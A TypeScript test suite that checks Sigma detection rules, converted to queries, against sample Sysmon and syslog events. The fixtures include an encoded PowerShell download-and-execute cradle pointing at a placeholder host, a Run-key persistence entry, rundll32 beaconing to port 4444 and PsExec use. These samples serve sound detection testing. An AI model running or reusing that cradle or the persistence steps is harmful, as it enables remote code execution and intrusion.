/**
 * Converted Sigma rules run on the real engine (chDB store, logs ingested as the listener normalises them): each
 * modifier, value form and condition form is judged by the logs it matches, not by the AST it builds.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import pino from 'pino';
import { regressionCases } from '../../bench/sigma-dataset.js';
import { decodeNdjson } from '../ingest/decoders/ndjson-decoder.js';
import { decodeSyslog } from '../ingest/decoders/syslog-decoder.js';
import { normaliseLog } from '../ingest/normalise/normalise-log.js';
import type { SearchRequest } from '../query/index.js';
import type { LogDocument, LogStore } from '../storage/log-store.js';
import { openLogStore } from '../storage/open-log-store.js';
import { datasetsDir } from '../../test/support/datasets.js';
import { convertSigmaYaml, SigmaError } from './index.js';

const NOW = Date.UTC(2026, 10, 25, 12);
const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const REGRESSION_ACCOUNT = 2;

function sysmon(eventId: number, data: Record<string, unknown>, computer = 'ws-1'): Record<string, unknown> {
  return {
    Event: {
      System: { Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, EventID: eventId, Channel: SYSMON, Computer: computer },
      EventData: data,
    },
  };
}

const encodedCommand = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a')", 'utf16le').toString('base64');

/** Named events: the tests name what they expect to match. */
const EVENTS: Record<string, Record<string, unknown>> = {
  cmd: sysmon(1, {
    Image: 'C:\\Windows\\System32\\cmd.exe',
    CommandLine: 'cmd.exe /c whoami /all',
    ParentImage: 'C:\\Windows\\explorer.exe',
    User: 'CORP\\alice',
    ParentUser: 'corp\\ALICE',
  }),
  powershell: sysmon(
    1,
    {
      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      CommandLine: `powershell.exe -NoProfile -EncodedCommand ${encodedCommand}`,
      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
      User: 'CORP\\bob',
      ParentUser: 'CORP\\alice',
    },
    'ws-2',
  ),
  psexec: sysmon(1, {
    Image: 'C:\\Tools\\PsExec64.exe',
    CommandLine: 'PsExec64.exe \\\\host -accepteula cmd /c dir C:\\*.txt',
    User: 'CORP\\alice',
  }),
  connection: sysmon(3, { Image: 'C:\\Windows\\System32\\rundll32.exe', DestinationIp: '10.20.30.40', DestinationPort: 4444 }),
  registry: sysmon(13, {
    Image: 'C:\\Windows\\System32\\reg.exe',
    TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\evil',
    Details: 'C:\\Users\\Public\\evil.exe',
  }),
};
const SYSLOG: Record<string, string> = {
  sshFailed: '<38>Nov 25 11:00:01 bastion sshd[4242]: Failed password for invalid user admin from 203.0.113.9 port 52122 ssh2',
  cron: '<78>Nov 25 11:00:02 bastion CRON[99]: (root) CMD (run-parts /etc/cron.hourly)',
};

describe('Sigma rules on the engine', () => {
  let store: LogStore;
  let dir: string;
  /** Stored log id → event name. */
  const nameOf = new Map<string, string>();
  const regressionOwner = new Map<string, string>();

  const request = (query: SearchRequest['query']): SearchRequest => ({
    query,
    from: 0,
    size: 1000,
    sort: [],
    source: { enabled: false },
    postFilter: null,
    docvalueFields: [],
    storedFields: null,
    version: false,
    highlight: null,
    aggregations: [],
    trackTotalHits: true,
    searchAfter: null,
    timeoutMs: null,
    terminateAfter: null,
    trackScores: false,
    dayOffset: null,
    accountIds: null,
  });

  /** The names of the logs the (single) rule of `yaml` matches. */
  async function matched(yaml: string, accountId = 1): Promise<string[]> {
    const [rule] = convertSigmaYaml(yaml);
    assert.ok(rule !== undefined);
    const result = await store.search({
      scope: { accounts: [{ accountId, fromMs: 0 }], toMs: null, types: null, filter: null },
      request: request(rule.query),
      receivedAtMostMs: null,
      after: null,
    });
    return result.hits.map((hit) => nameOf.get(hit.id) ?? regressionOwner.get(hit.id) ?? hit.id).sort();
  }

  const windowsRule = (category: string, detection: string): string =>
    `title: t\nlogsource:\n  product: windows\n  category: ${category}\ndetection:\n${detection.replace(/^/gm, '  ')}\nlevel: high\n`;
  const processRule = (detection: string): string => windowsRule('process_creation', detection);

  before(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'sigma-engine-'));
    store = await openLogStore(
      { url: `chdb:${dir}`, memoryBytes: 1_000_000_000 },
      { logger: pino({ level: 'silent' }), clock: { now: () => NOW } },
    );
    const context = { accountId: 1, docSizeSetting: false, defaultType: 'http-bulk', receivedAtMs: NOW };
    const documents: LogDocument[] = [];
    for (const [name, event] of Object.entries(EVENTS)) {
      const [log] = decodeNdjson(Buffer.from(`${JSON.stringify(event)}\n`)).logs;
      assert.ok(log !== undefined);
      const document = normaliseLog(log, context);
      nameOf.set(document.id, name);
      documents.push(document);
    }
    for (const [name, line] of Object.entries(SYSLOG)) {
      const entry = decodeSyslog(line, NOW);
      assert.ok(entry !== undefined);
      const document = normaliseLog(entry.log, { ...context, defaultType: 'syslog' });
      nameOf.set(document.id, name);
      documents.push(document);
    }
    // Regression events of SigmaHQ rules, their JSON unchanged, in an account of their own.
    for (const c of regressionCases(path.join(datasetsDir(), 'sigma')).filter((c) => DATASET_RULES.some((r) => r.id === c.ruleId))) {
      for (const log of decodeNdjson(Buffer.from(`${c.lines.join('\n')}\n`)).logs) {
        const document = normaliseLog(log, { ...context, accountId: REGRESSION_ACCOUNT });
        regressionOwner.set(document.id, c.ruleId);
        documents.push(document);
      }
    }
    await store.append(documents, { dedupToken: 'sigma', retentionDaysOf: () => 30 });
  });
  after(async () => {
    await store.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('compares plain values whole and case-insensitively, with * and ? wildcards', async () => {
    assert.deepEqual(await matched(processRule("selection:\n  Image: 'c:\\windows\\system32\\CMD.EXE'\ncondition: selection")), ['cmd']);
    assert.deepEqual(await matched(processRule("selection:\n  Image: 'cmd.exe'\ncondition: selection")), []);
    // A backslash before `*` escapes it, so a path separator before a wildcard is written doubled.
    assert.deepEqual(await matched(processRule("selection:\n  Image: '*\\System32\\\\*.exe'\ncondition: selection")), [
      'cmd',
      'powershell',
    ]);
    assert.deepEqual(await matched(processRule("selection:\n  User: 'corp\\alic?'\ncondition: selection")), ['cmd', 'psexec']);
  });

  it('reads backslash escapes of wildcards and of backslashes', async () => {
    // `\\\*` is a backslash then a literal star; `\*` alone a literal star (no backslash before it).
    assert.deepEqual(await matched(processRule("selection:\n  CommandLine|contains: 'C:\\\\\\*.txt'\ncondition: selection")), ['psexec']);
    assert.deepEqual(await matched(processRule("selection:\n  CommandLine|contains: 'C:\\*.txt'\ncondition: selection")), []);
  });

  it('applies contains, startswith, endswith and all', async () => {
    assert.deepEqual(await matched(processRule("selection:\n  CommandLine|contains: 'WHOAMI'\ncondition: selection")), ['cmd']);
    assert.deepEqual(await matched(processRule("selection:\n  CommandLine|startswith: 'POWERSHELL.exe -no'\ncondition: selection")), [
      'powershell',
    ]);
    assert.deepEqual(
      await matched(processRule("selection:\n  Image|endswith:\n    - '\\cmd.exe'\n    - '\\psexec64.exe'\ncondition: selection")),
      ['cmd', 'psexec'],
    );
    assert.deepEqual(
      await matched(processRule("selection:\n  CommandLine|contains|all:\n    - '/c'\n    - 'whoami'\ncondition: selection")),
      ['cmd'],
    );
    assert.deepEqual(
      await matched(processRule("selection:\n  CommandLine|contains|all:\n    - '/c'\n    - 'nothing-like-this'\ncondition: selection")),
      [],
    );
  });

  it('keeps long value lists to one pattern with the same meaning', async () => {
    const decoys = Array.from({ length: 20 }, (_, i) => `    - 'decoy.${i}(x)'`).join('\n');
    assert.deepEqual(
      await matched(processRule(`selection:\n  CommandLine|contains:\n${decoys}\n    - 'WHOAMI /a'\ncondition: selection`)),
      ['cmd'],
    );
    assert.deepEqual(await matched(processRule(`selection:\n  Image|endswith:\n${decoys}\n    - '\\PSEXEC64.exe'\ncondition: selection`)), [
      'psexec',
    ]);
    assert.deepEqual(await matched(processRule(`selection:\n  User:\n${decoys}\n    - 'corp\\b?b'\ncondition: selection`)), ['powershell']);
    assert.deepEqual(await matched(processRule(`selection:\n  User:\n${decoys}\n    - 'corp\\b'\ncondition: selection`)), []);
  });

  it('matches regular expressions anywhere in the value, cased unless re|i', async () => {
    assert.deepEqual(await matched(processRule("selection:\n  CommandLine|re: '\\s/c\\s+who(ami)?\\s'\ncondition: selection")), ['cmd']);
    assert.deepEqual(await matched(processRule("selection:\n  CommandLine|re: 'WHOAMI'\ncondition: selection")), []);
    assert.deepEqual(await matched(processRule("selection:\n  CommandLine|re|i: 'WHOAMI'\ncondition: selection")), ['cmd']);
    assert.deepEqual(
      await matched(processRule("selection:\n  Image|re: '^C:\\\\Windows\\\\[^\\\\]+\\\\cmd\\.exe$'\ncondition: selection")),
      ['cmd'],
    );
    assert.deepEqual(await matched(processRule("selection:\n  Image|re: '^cmd'\ncondition: selection")), []);
  });

  it('finds base64offset of a UTF-16 text and every windash spelling', async () => {
    assert.deepEqual(
      await matched(processRule("selection:\n  CommandLine|wide|base64offset|contains: 'DownloadString'\ncondition: selection")),
      ['powershell'],
    );
    assert.deepEqual(
      await matched(processRule("selection:\n  CommandLine|base64offset|contains: 'DownloadString'\ncondition: selection")),
      [],
    );
    assert.deepEqual(await matched(processRule("selection:\n  CommandLine|contains|windash: ' -c '\ncondition: selection")), [
      'cmd',
      'psexec',
    ]);
  });

  it('tests networks, numbers, presence and null', async () => {
    assert.deepEqual(
      await matched(windowsRule('network_connection', "selection:\n  DestinationIp|cidr: '10.16.0.0/12'\ncondition: selection")),
      ['connection'],
    );
    assert.deepEqual(
      await matched(windowsRule('network_connection', "selection:\n  DestinationIp|cidr: '10.0.0.0/16'\ncondition: selection")),
      [],
    );
    assert.deepEqual(await matched(windowsRule('network_connection', 'selection:\n  DestinationPort|gte: 4444\ncondition: selection')), [
      'connection',
    ]);
    assert.deepEqual(await matched(windowsRule('network_connection', 'selection:\n  DestinationPort|lt: 4444\ncondition: selection')), []);
    assert.deepEqual(await matched(processRule('selection:\n  ParentImage|exists: false\ncondition: selection')), ['psexec']);
    assert.deepEqual(await matched(processRule('selection:\n  ParentImage: null\ncondition: selection')), ['psexec']);
    assert.deepEqual(await matched(processRule('selection:\n  ParentImage|exists: true\ncondition: selection')), ['cmd', 'powershell']);
  });

  it('compares two fields of the same log with fieldref', async () => {
    assert.deepEqual(await matched(processRule('selection:\n  User|fieldref: ParentUser\ncondition: selection')), ['cmd']);
    assert.deepEqual(await matched(processRule('selection:\n  User|fieldref|cased: ParentUser\ncondition: selection')), []);
    const crossUser =
      'selection:\n  ParentUser|exists: true\nfilter_same:\n  User|fieldref: ParentUser\ncondition: selection and not filter_same';
    assert.deepEqual(await matched(processRule(crossUser)), ['powershell']);
  });

  it('keeps a rule to its log source', async () => {
    assert.deepEqual(await matched(windowsRule('registry_set', "selection:\n  Image|endswith: '.exe'\ncondition: selection")), [
      'registry',
    ]);
    assert.deepEqual(await matched(windowsRule('file_event', "selection:\n  Image|endswith: '\\cmd.exe'\ncondition: selection")), []);
  });

  it('searches keywords in the log line', async () => {
    const linux = (detection: string): string =>
      `title: k\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n${detection.replace(/^/gm, '  ')}\n`;
    assert.deepEqual(
      await matched(linux("keywords:\n  - 'failed password for invalid user'\n  - 'Did not receive identification'\ncondition: keywords")),
      ['sshFailed'],
    );
    assert.deepEqual(await matched(linux("keywords:\n  '|all':\n    - 'Failed password'\n    - 'from 203.0.113.*'\ncondition: keywords")), [
      'sshFailed',
    ]);
    assert.deepEqual(await matched(linux("keywords:\n  - 'run-parts'\ncondition: keywords")), []);
  });

  it('combines searches with and, or, not, parentheses, 1 of, all of and them', async () => {
    const searches =
      "selection_cmd:\n  Image|endswith: '\\cmd.exe'\nselection_alice:\n  User|endswith: '\\alice'\nfilter_whoami:\n  CommandLine|contains: 'whoami'\n";
    const rule = (condition: string): string => processRule(`${searches}condition: ${condition}`);
    assert.deepEqual(await matched(rule('selection_cmd and not filter_whoami')), []);
    assert.deepEqual(await matched(rule('1 of selection_*')), ['cmd', 'psexec']);
    assert.deepEqual(await matched(rule('all of selection_*')), ['cmd']);
    assert.deepEqual(await matched(rule('selection_alice and not 1 of filter_*')), ['psexec']);
    assert.deepEqual(await matched(rule('1 of them')), ['cmd', 'psexec']);
    assert.deepEqual(await matched(rule('all of them')), ['cmd']);
    assert.deepEqual(await matched(rule('(selection_cmd or filter_whoami) and not selection_alice')), []);
    assert.deepEqual(await matched(rule('not selection_alice')), ['powershell']);
    // A list of maps is any of them; a condition list is any of its conditions.
    const listRule = processRule(
      "selection:\n  - Image|endswith: '\\psexec64.exe'\n  - User: 'CORP\\bob'\ncondition:\n  - selection\n  - 'not selection'\n",
    );
    assert.deepEqual(await matched(listRule), ['cmd', 'powershell', 'psexec']);
  });

  it('detects the SigmaHQ regression events of dataset rules', async () => {
    for (const { id, file } of DATASET_RULES) {
      const yaml = fs.readFileSync(path.join(datasetsDir(), 'sigma', file), 'utf8');
      const hits = await matched(yaml, REGRESSION_ACCOUNT);
      assert.ok(hits.includes(id), `${file} should match its regression event`);
      assert.deepEqual(new Set(hits), new Set([id]), `${file} should match nothing else`);
    }
  });

  it('refuses what the AST cannot express, naming the construct', () => {
    const refused = (yaml: string): SigmaError => {
      try {
        convertSigmaYaml(yaml);
      } catch (error) {
        if (error instanceof SigmaError) return error;
        throw error;
      }
      assert.fail('expected a SigmaError');
    };
    assert.equal(refused(processRule("selection:\n  Image|re: '(?!cmd)'\ncondition: selection")).construct, 'regex');
    assert.equal(refused(processRule("selection:\n  SourceIp|cidr: 'fe80::/10'\ncondition: selection")).construct, 'cidr');
    assert.equal(refused(processRule("selection:\n  Image|expand: '%x%'\ncondition: selection")).construct, 'placeholder');
    assert.equal(refused(processRule('selection:\n  Image: x\ncondition: selection | near other')).construct, 'aggregation');
    assert.equal(refused('title: c\ncorrelation:\n  type: event_count\n').construct, 'correlation');
    const invalid = refused(processRule('selection:\n  Image: x\ncondition: selection and missing'));
    assert.equal(invalid.construct, null);
    assert.equal(invalid.parameters.path, 'detection.condition');
  });
});

/** SigmaHQ rules whose regression events the engine test ingests (process creation with windash and re, registry). */
const DATASET_RULES = [
  {
    id: '7c3a5b1d-9e2f-4a8c-b5d7-1e0f3c6a9b2d',
    file: 'rules-emerging-threats/2026/Exploits/CVE-2026-33829/proc_creation_win_exploit_cve_2026_33829.yml',
  },
  { id: '7090adee-82e2-4269-bd59-80691e7c6338', file: 'rules/windows/process_creation/proc_creation_win_chcp_codepage_lookup.yml' },
  { id: '916eb839-895e-47f8-99ee-3008bf377a3e', file: 'rules/windows/process_creation/proc_creation_win_curl_ntlm_hash_leak_attempt.yml' },
  {
    id: '8b7273a4-ba5d-4d8a-b04f-11f2900d043a',
    file: 'rules/windows/registry/registry_set/registry_set_deviceguard_hypervisorenforcedcodeintegrity_disabled.yml',
  },
];
